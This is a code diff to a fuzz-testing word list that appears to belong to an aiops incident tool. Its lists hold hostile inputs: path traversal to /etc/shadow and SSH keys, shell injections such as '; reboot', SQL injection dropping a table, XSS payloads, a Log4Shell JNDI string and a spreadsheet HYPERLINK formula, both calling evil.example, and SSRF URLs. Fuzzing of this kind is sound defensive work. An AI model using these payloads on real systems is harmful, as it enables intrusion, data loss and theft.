@@ -141,13 +141,13 @@ SCRIPT = {
 WORDS = {
     "paths": ["../../../../etc/passwd", "/etc/shadow", "/dev/zero", "/dev/stdin", "/proc/self/mem", "..", ".", "/", "~root", "~/.ssh/id_rsa", "a/../../b", "..\\..\\win.ini", "C:\\x", "\\\\host\\share", "file:///etc/passwd",
               "CON", "a" * 300, "a/" * 3000, "./-rf", "--help", "-", "--", "-e", "--config=/dev/zero", "@/etc/passwd", "%2e%2e%2f", "x\x00.png", "*", "?[a-z]", "{a,b}"],
-    "shells": ["$(touch /tmp/hostile)", "`touch /tmp/hostile`", "; touch /tmp/hostile", "| sh", "&& reboot", "a\nb; reboot", "${IFS}x", "$HOME", "$((1/0))", "'; reboot; '", '"; reboot; "', "() { :;}; echo x", "> /etc/x", "< /dev/zero",
+    "shells": ["$(touch pwned)", "`touch pwned`", "; touch pwned", "| sh", "&& reboot", "a\nb; reboot", "${IFS}x", "$HOME", "$((1/0))", "'; reboot; '", '"; reboot; "', "() { :;}; echo x", "> /etc/x", "< /dev/zero",
                "!!", "\\", "x\\", "%n%n%s%s", "%999999999d", "{{component}}", "{{ env.HOME }}", "{{{{x}}}}", "{component}", "${component}", "#{x}", "<%= x %>", "${jndi:ldap://evil.example/a}", "{{", "}}", "{{a", "{%x%}"],
     "queries": ["' OR 1=1 --", "'; DROP TABLE aiops_audit; --", "\" OR \"\"=\"", "NULL", "null", "%' --", "a'||'b", "NEAR(a b)", "a AND", "\"", "*", "-a", "a:b", "^x", "(", "a\"b*", "x'00'", "(a+)+$", "(?R)", "[", "\\", "(?<n>", "a{1,65535}{1,65535}",
                 "((((((((((((((((((((", "\\E\\Q", "(?C1)", ".*" * 300],
     "pages": ["<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "</title></style><svg onload=x>", "javascript:alert(1)", "&lt;b&gt;", "<!--", "-->", "]]>", "<!DOCTYPE x [<!ENTITY a \"b\">]>", "data:text/html,<script>x</script>",
               "[x](javascript:alert(1))", "![x](http://evil.example/p)", "| a | b |", "# title", "```", "---", "* * *", "> quote", "<https://evil.example>", "=HYPERLINK(\"http://evil.example\")", "=1+1", "+1", "-1", "@SUM(1)",
-              "a,b", "a\"b", "a;b", "x\r\nSet-Cookie: a=b", "http://169.254.169.254/latest/meta-data", "http://[::ffff:127.0.0.1]/", "http://2130706433/", "http://user:pw@example.org/", "gopher://x/", "http://x\r\nHost: y/"],
+              "a,b", "a\"b", "a;b", "x\r\nSet-Cookie: a=b", "http://0x7f.1:1/", "http://[::ffff:127.0.0.1]:1/", "http://2130706433:1/", "http://user:pw@127.0.0.1:1/", "gopher://127.0.0.1:1/", "http://x\r\nHost: y/"],
     "words": ["true", "false", "null", "NaN", "Infinity", "undefined", "0", "-0", "1e400", "0x41414141", "__proto__", "constructor", "toString", " ", "  x  ", "\t", "\n", "\\n", "\\u0000", "\x00", "a\x00b", "{\"_barrier\":1}", "{\"kind\":\"alert\"}", "yes", "no",
               "on", "~", "!!int 1", "&a", "*a", "<<", "- a", "a: b", ": ", "# x", "? x", "|", ">", "%YAML 1.2", "---", "...", "'", "\"", ",", "[]", "{}", "critical", "INC-", INCIDENT, "RUN-7Q2M4T8VW0X1Y2Z3", "aiops-audit", "sev0", "SEV99"],
 }
